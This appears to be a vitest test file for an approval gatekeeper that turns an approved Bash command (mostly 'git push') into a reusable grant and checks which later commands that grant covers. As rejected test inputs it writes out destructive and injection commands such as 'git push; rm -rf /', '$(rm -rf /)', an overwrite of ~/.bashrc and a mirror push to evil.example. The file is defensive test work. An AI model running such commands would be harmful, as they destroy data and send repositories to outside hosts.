import { describe, expect, it } from 'vitest';
import { similarCommandText } from '../../shared/approvals/similarCallText.ts';
import { grantCovers, type GrantedCall, type StoredGrant } from '../../daemon/grants/grantStore.ts';
import { proposeSimilar } from '../../daemon/grants/proposeSimilar.ts';
import { evaluatePolicy, parsePolicy } from '../../daemon/policy/policy.ts';
import { DEFAULT_POLICY } from '../../daemon/policy/defaultPolicy.ts';
import { plainCommandWords } from '../../daemon/policy/plainCommandWords.ts';

const FOLDER = '/home/dev/project';
const asked = { policyRule: 'network writes and publishing', risk: 'medium' as const, guarded: false };
const bash = (command: string) => ({ tool: 'Bash', command, cwd: FOLDER, session: 'session-1' });

describe('the rule proposed for "calls like this"', () => {
  it('is the same words in the same folder, the last one any name after a subcommand', () => {
    const similar = proposeSimilar(bash('git push origin feature/x'), asked);
    expect(similar).toEqual({
      tool: 'Bash',
      words: ['git', 'push', 'origin'],
      thenAnyName: true,
      folder: FOLDER,
      policyRule: 'network writes and publishing',
      conversation: expect.stringMatching(/^[A-Za-z0-9_-]{16}$/),
    });
    expect(similarCommandText(similar!)).toBe('git push origin ‹name›');
  });

  it.each([
    // Nothing after the subcommand: nothing to vary.
    ['git push', ['git', 'push']],
    // The last word is an option, a refspec, a URL, an absolute path or leaves the folder.
    ['git pull --rebase', ['git', 'pull', '--rebase']],
    ['git push origin :main', ['git', 'push', 'origin', ':main']],
    ['git push origin +main', ['git', 'push', 'origin', '+main']],
    ['git clone https://example.com/r.git', ['git', 'clone', 'https://example.com/r.git']],
    ['git add /etc/hosts', ['git', 'add', '/etc/hosts']],
    ['git add ../secrets', ['git', 'add', '../secrets']],
  ])('is exactly %j where the last word is not a name', (command, words) => {
    expect(proposeSimilar(bash(command), asked)).toMatchObject({ words, thenAnyName: false });
  });

  it.each([
    // No subcommand: an option comes second.
    ['rm -rf build', ['rm', '-rf', 'build']],
    // Programs that run what follows them: "sudo …" would be any command at all.
    ['sudo systemctl restart nginx', ['sudo', 'systemctl', 'restart', 'nginx']],
    ['env deploy now', ['env', 'deploy', 'now']],
    ['python3 manage.py migrate', ['python3', 'manage.py', 'migrate']],
    ['bash deploy.sh', ['bash', 'deploy.sh']],
    ['/usr/bin/xargs rm', ['/usr/bin/xargs', 'rm']],
    // Runners whose subcommand runs a script, package or container named next.
    ['uv run pytest', ['uv', 'run', 'pytest']],
    ['go run ./cmd/server', ['go', 'run', './cmd/server']],
    ['npx tsx scripts/build.ts', ['npx', 'tsx', 'scripts/build.ts']],
    ['npm exec prettier', ['npm', 'exec', 'prettier']],
    ['docker run alpine', ['docker', 'run', 'alpine']],
    ['cargo run --bin tool', ['cargo', 'run', '--bin', 'tool']],
  ])('is exactly %j where a subcommand would say too little', (command, words) => {
    expect(proposeSimilar(bash(command), asked)).toMatchObject({ words, thenAnyName: false });
  });

  // The review of 2026-12-04: a name in these places changes what runs, so each is exact.
  it.each([
    // A leading assignment hides the program behind it.
    'PYTHONPATH=src python3 main.py',
    'CI=1 npx prettier',
    'X=1 sudo whoami',
    'X=1 git push origin main',
    // Runners under another spelling, and runners of any name.
    'pip3.12 install requests',
    'Npm install lodash',
    'GIT push origin main',
    'gem install rails',
    'gh workflow run test.yml',
    'git bisect run test.sh',
    // A second subcommand, a path to overwrite or discard, a config value that is a program.
    'gh auth status',
    'git stash list',
    'aws s3 ls',
    'git checkout feature/x',
    'git config core.fsmonitor false',
    'cp template notes.md',
    // The remote of a push is not the name that varies.
    'git push origin',
    // A hidden folder on the way.
    'git push origin x/.git/hooks',
  ])('is exactly %j: a name there could change what runs', (command) => {
    expect(proposeSimilar(bash(command), asked)).toMatchObject({
      words: plainCommandWords(command),
      thenAnyName: false,
    });
  });

  it('is exactly the call when the policy finds it high risk: git push -f keeps its branch', () => {
    expect(proposeSimilar(bash('git push -f origin feature/x'), { ...asked, risk: 'high' })).toMatchObject({
      words: ['git', 'push', '-f', 'origin', 'feature/x'],
      thenAnyName: false,
    });
  });

  it.each([
    ['a second command', 'git push; rm -rf /'],
    ['a pipe', 'git push | tee log'],
    ['a redirection', 'git push > out.txt'],
    ['a harmless-looking redirection', 'git push 2>&1'],
    ['a substitution', 'git push $(whoami)'],
    ['a variable', 'git push $REMOTE'],
    ['a quoted word', "git push 'origin'"],
    ['an escape', 'git push orig\\in'],
    ['a glob', 'git push *'],
    ['a home directory', 'git push ~/repo'],
    ['a newline', 'git push\nrm -rf /'],
    ['two spaces', 'git  push'],
  ])('is none for a command with %s', (_, command) => {
    expect(proposeSimilar(bash(command), asked)).toBeUndefined();
  });

  it('is none for a critical request, one Latch guards, a call without a command or folder', () => {
    expect(proposeSimilar(bash('git push'), { ...asked, risk: 'critical' })).toBeUndefined();
    expect(proposeSimilar(bash('git push'), { ...asked, guarded: true })).toBeUndefined();
    expect(proposeSimilar({ tool: 'Write', cwd: FOLDER }, asked)).toBeUndefined();
    expect(proposeSimilar({ tool: 'Bash', command: 'git push' }, asked)).toBeUndefined();
  });

  it('names no session for a call that has none', () => {
    expect(proposeSimilar({ tool: 'Bash', command: 'git push', cwd: FOLDER }, asked)).not.toHaveProperty(
      'conversation',
    );
  });
});

describe('a grant covers a call', () => {
  const policy = parsePolicy(DEFAULT_POLICY);
  const similar = proposeSimilar(bash('git push origin main'), asked)!;
  const grant: StoredGrant = {
    id: 'g1',
    kind: 'half_hour',
    similar,
    risk: 'medium',
    session: null,
    device: 'phone',
    requestId: 'r1',
    createdAt: 0,
    expiresAt: 1,
  };
  /** The call as the gatekeeper hands it over: its words, and what the default policy says of it. */
  const call = (command: string, overrides: Partial<GrantedCall> = {}): GrantedCall | undefined => {
    const words = plainCommandWords(command);
    if (!words) return undefined;
    const verdict = evaluatePolicy(policy, { tool: 'Bash', command, paths: [], cwd: FOLDER });
    return {
      tool: 'Bash',
      words,
      cwd: FOLDER,
      conversation: similar.conversation!,
      policyRule: verdict.rule,
      risk: verdict.risk,
      ...overrides,
    };
  };
  const covers = (command: string, overrides: Partial<GrantedCall> = {}) => {
    const granted = call(command, overrides);
    return granted !== undefined && grantCovers(grant, granted);
  };

  it('when only the last word differs, and it is a name, asked by the same rule', () => {
    expect(covers('git push origin main')).toBe(true);
    expect(covers('git push origin feature/x')).toBe(true);
    expect(covers('git push origin release-1.2')).toBe(true);
  });

  // The phone walk of 2026-12-04: a grant from `git push origin feature/x` ran all of these.
  // Each is judged as if the same policy rule asked at the same risk, so only the grant stands
  // between it and the shell.
  it.each([
    'git push --mirror https://evil.example/r.git',
    'git push -f origin main',
    'git push origin --delete main',
    'git push origin -d main',
    'git push origin :main',
    'git push origin +main',
    'git push origin main:production',
    'git push https://evil.example/r.git main',
    'git push origin ../../elsewhere',
    'git push origin /srv/other.git',
    'git push origin main feature/x',
    'git push origin',
    'git push',
    'git push evil main',
  ])('never %j, which changes more than one name', (command) => {
    expect(covers(command, { policyRule: similar.policyRule, risk: 'medium' })).toBe(false);
  });

  it('never when the policy finds it riskier (git push --force asks under another rule)', () => {
    expect(covers('git push --force origin main')).toBe(false);
  });

  it.each([
    'git push; rm -rf /',
    'git push && rm -rf /',
    'git push origin main # note',
    "git push '--force'",
    'git push "$(rm -rf /)"',
    'git push `rm -rf /`',
    'git push origin main > ~/.bashrc',
    'git  push',
  ])('never %j, which is not plain words', (command) => {
    expect(covers(command)).toBe(false);
  });

  it('never another program, subcommand, tool, folder or a riskier call', () => {
    expect(covers('git pull')).toBe(false);
    expect(covers('/tmp/git push')).toBe(false);
    expect(covers('git push origin feature/x', { tool: 'exec' })).toBe(false);
    expect(covers('git push origin feature/x', { cwd: '/home/dev/other' })).toBe(false);
    expect(covers('git push origin feature/x', { risk: 'high' })).toBe(false);
  });

  it('for a session grant, only in that session', () => {
    const sessionGrant = { ...grant, kind: 'session' as const, session: similar.conversation! };
    expect(grantCovers(sessionGrant, call('git push origin feature/x')!)).toBe(true);
    expect(
      grantCovers(sessionGrant, call('git push origin feature/x', { conversation: 'another-session' })!),
    ).toBe(false);
  });

  it('for an exact rule, only that exact command', () => {
    const exact = { ...grant, similar: { ...similar, words: ['make', 'clean'], thenAnyName: false } };
    const asMake = { policyRule: similar.policyRule, risk: 'medium' as const };
    expect(grantCovers(exact, call('make clean', asMake)!)).toBe(true);
    expect(grantCovers(exact, call('make clean all', asMake)!)).toBe(false);
    expect(grantCovers(exact, call('make', asMake)!)).toBe(false);
  });
});
